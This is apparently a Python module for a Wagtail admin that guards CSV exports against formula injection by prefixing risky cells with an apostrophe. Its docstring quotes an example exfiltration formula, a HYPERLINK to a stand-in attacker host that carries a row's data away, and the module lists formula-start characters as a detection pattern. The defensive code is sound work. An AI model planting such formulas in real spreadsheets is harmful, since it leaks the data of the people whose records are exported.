"""Spreadsheet exports that a spreadsheet cannot run: one rule for every CSV the admin exports.

A cell that starts with "=", "+", "-", "@", a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets (CSV or formula injection): `=HYPERLINK("https://evil.example/?"&A1, "Open")` sends the row's data
away when clicked, and DDE payloads can run commands. Exports here hold text that outsiders wrote (the consent
wording the public subscribe form posts, patients' replies, names from the booking system), so every text cell
that would start a formula is prefixed with an apostrophe, which spreadsheets show as text (OWASP's advice).

Wagtail declines to do this itself (its security policy, wagtail/wagtail#7554: the consumer's problem), and every
export in the admin, ours (Outbox, Consent ledger, ...) and Wagtail's own reports, goes through
`SpreadsheetExportMixin.preprocess_field_value`; `install()` wraps that one method at start, so no export can be
added that skips the rule. XLSX needs nothing: openpyxl writes these values as strings, never formulas.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

# Fullwidth forms too: some spreadsheet locales read them as their ASCII twins.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise(value):
    """The text a spreadsheet shows as text: a cell that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def install():
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        processed = original(self, field, value, export_format)
        return neutralise(processed) if export_format == self.FORMAT_CSV else processed

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
